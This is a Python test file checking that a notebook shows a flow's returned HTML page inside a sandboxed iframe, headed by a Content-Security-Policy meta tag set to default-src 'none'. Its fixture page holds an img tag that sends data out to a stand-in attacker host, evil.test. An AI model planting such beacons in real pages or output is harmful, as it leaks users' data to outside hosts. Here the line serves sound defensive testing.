"""What a notebook shows of a flow's own page."""

from html.parser import HTMLParser
from typing import Any

from koco.python_client import notebook

PAGE = "<!doctype html><meta charset='utf-8'><img src='https://evil.test/?what=it+said'>"


class Client:
    """A client of a control plane on which an execution has returned a page."""

    def execution(self, fid: str) -> Any:
        return {"fid": fid, "flow": "s/f", "status": "finished"}

    def result(self, fid: str) -> Any:
        return {"status": "finished", "result": {"type": "markdown", "body": "!"}}

    def result_page(self, fid: str) -> str:
        return PAGE


def test_a_flows_page_can_do_nothing_and_loads_nothing() -> None:
    """It is in a sandbox, and before anything of it comes a policy that it cannot take back."""
    client: Any = Client()
    tags = _tags(notebook.html(client, "fid"))
    frame = next(attributes for name, attributes in tags if name == "iframe")
    assert frame["sandbox"] is None
    page = frame["srcdoc"]
    assert page is not None
    assert page.endswith(PAGE)
    (first, attributes), *_ = _tags(page)
    assert (first, attributes["http-equiv"]) == ("meta", "Content-Security-Policy")
    assert "default-src 'none'" in (attributes["content"] or "")


def _tags(page: str) -> list[tuple[str, dict[str, str | None]]]:
    found: list[tuple[str, dict[str, str | None]]] = []

    class Parser(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, dict(attrs)))

    Parser().feed(page)
    return found
